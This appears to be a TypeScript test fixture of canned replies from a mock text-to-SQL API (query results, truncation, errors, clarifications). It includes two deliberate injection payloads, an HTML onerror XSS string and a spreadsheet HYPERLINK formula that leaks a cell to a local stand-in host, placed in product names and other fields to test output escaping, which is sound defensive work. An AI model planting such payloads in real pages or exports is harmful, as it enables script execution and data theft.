// The answers of the stand-in, with the fields of docs/api.md.

interface Reply {
  status?: number
  body: (context: unknown[]) => object
}

function rows(sql: string, columns: string[], data: unknown[][], more: object = {}): Reply {
  return {
    body: context => ({
      columns,
      data,
      query_generated: sql,
      ran_successfully: true,
      reason_for_query: null,
      previous_context: [...context, sql],
      truncated: false,
      row_count: data.length,
      request_id: 'QCBWWVTTEZTSSK5TRUTTPSF6XR',
      ...more,
    }),
  }
}

function failure(status: number, code: string, message: string, more: object = {}): Reply {
  return {
    status,
    body: () => ({
      ran_successfully: false,
      error_message: message,
      error_code: code,
      request_id: 'T5FJ5EXLF5L24DQSUZLW4UDMCT',
      ...more,
    }),
  }
}

const day = (i: number) => new Date(Date.UTC(2026, 0, 1 + i)).toISOString().slice(0, 10)
// A season, a week, and the differences of days.
const revenue = (i: number, shop: number) => {
  const week = [0.7, 0.8, 0.85, 0.9, 1.1, 1.35, 1.25][(i + 3) % 7] ?? 1
  const season = 210 + 60 * shop + (50 + 20 * shop) * Math.sin(i / 24 + shop * 1.3)
  return (season * (0.85 + 0.15 * week) + ((i * 7919 + shop * 104_729) % 31)).toFixed(2)
}
const countries = ['Spain', 'Portugal', 'France', 'Germany', 'Belgium']

/** hostile is text that would run if it were HTML or a spreadsheet's formula. */
export const hostile = {
  html: '<img src=x onerror="document.body.dataset.owned = 1">',
  formula: '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Open")',
}

export const questions = {
  count: 'How many customers are there?',
  best: 'What is the best-selling product in every country?',
  series: 'What is the revenue of each shop by day?',
  large: 'List all orders',
  points: 'How do price and units sold relate?',
  hostile: 'Which names are strange?',
  none: 'Which orders are from 1900?',
  truncated: 'List every event',
  wrong: 'What is the revenue of each planet?',
  unready: 'Is the database up?',
  trusted: 'How many orders are open?',
  ambiguous: 'Who are our best customers?',
  meaning: 'Which customers spent the most?',
  slow: 'What is the meaning of it all?',
}

/** answers are by question. A question without an answer waits for ever. */
export const answers: Record<string, Reply> = {
  [questions.count]: rows('SELECT count(*) AS customers FROM customers', ['customers'], [[12_480]]),
  [questions.trusted]: rows('SELECT count(*) AS orders FROM orders', ['orders'], [[7]], {
    source: 'model',
    tables: ['orders', 'shop.customers'],
    assumptions: ['Late orders are open, too.', hostile.html],
    filters: ['status is open'],
    confidence: 0.67,
    samples: 3,
    schema_age: 7300,
  }),
  [questions.ambiguous]: failure(200, 'clarification_needed', 'What makes a customer good?', {
    clarification: { question: 'What makes a customer good?', options: [questions.meaning, hostile.html] },
  }),
  [questions.meaning]: rows('SELECT 1 AS spent', ['spent'], [[1]], { source: 'golden' }),
  [questions.best]: rows(
    `SELECT country, product, units\nFROM (\n  SELECT c.country, p.name AS product, sum(i.quantity) AS units,\n         rank() OVER (PARTITION BY c.country ORDER BY sum(i.quantity) DESC) AS place\n  FROM order_items AS i\n  JOIN orders AS o ON o.id = i.order_id\n  JOIN customers AS c ON c.id = o.customer_id\n  JOIN products AS p ON p.id = i.product_id\n  WHERE o.status <> 'cancelled' -- those were never sent\n  GROUP BY c.country, p.name\n) AS ranked\nWHERE place = 1\nORDER BY units DESC`,
    ['country', 'product', 'units'],
    [
      ['Spain', 'Harbour Blend', 1034],
      ['Portugal', 'Night Watch Espresso', 741],
      ['France', 'Harbour Blend', 406],
      ['Germany', 'Harbour Blend', 405],
      ['Belgium', 'Night Watch Espresso', 217],
    ],
    { reason_for_query: 'This is the golden query for: What is the best-selling product in every country?' },
  ),
  [questions.series]: rows(
    'SELECT day, shop, sum(total) AS revenue FROM orders GROUP BY day, shop ORDER BY day, shop',
    ['day', 'shop', 'revenue'],
    Array.from({ length: 120 }, (_, i) =>
      ['Lisbon', 'Porto', 'Vigo'].map((shop, s) => [day(i), shop, revenue(i, s)]),
    ).flat(),
    { reason_for_query: 'Revenue is the sum of the orders of a day, without those that were cancelled.' },
  ),
  [questions.large]: rows(
    'SELECT id, placed, country, total, is_paid, note FROM orders',
    ['id', 'placed', 'country', 'total', 'is_paid', 'note'],
    Array.from({ length: 10_000 }, (_, i) => [
      i + 1,
      `${day(i % 330)} ${String(i % 24).padStart(2, '0')}:30:00`,
      countries[(i * 7) % 5],
      (((i * 7919) % 20_000) / 100).toFixed(2),
      i % 3 > 0,
      i % 4 ? null : `order ${i}`,
    ]),
  ),
  [questions.points]: rows(
    'SELECT price, units, kind FROM products',
    ['price', 'units', 'kind'],
    Array.from({ length: 120 }, (_, i) => [
      (4 + ((i * 13) % 90) / 5).toFixed(2),
      900 - ((i * 13) % 90) * 8 + ((i * 31) % 140),
      i % 2 ? 'beans' : 'ground',
    ]),
  ),
  [questions.hostile]: rows(
    'SELECT name, units FROM products',
    ['name', 'units'],
    [
      [hostile.html, 3],
      [hostile.formula, 2],
      ['-1+1', 1],
    ],
  ),
  [questions.none]: rows("SELECT * FROM orders WHERE placed < '1901-01-01'", ['id'], []),
  [questions.truncated]: rows(
    'SELECT id FROM events',
    ['id', 'kind'],
    [
      [1, 'a'],
      [2, 'b'],
    ],
    {
      truncated: true,
      results: {
        url: 'https://bucket.example/all.csv?signature=x',
        expires: '2026-11-28T15:34:44Z',
        row_count: 250_000,
      },
    },
  ),
  [questions.wrong]: failure(200, 'statement_failed', 'relation "planets" does not exist', {
    query_generated: 'SELECT sum(total) FROM planets',
  }),
  [questions.unready]: failure(503, 'not_ready', 'The function is not ready.'),
}
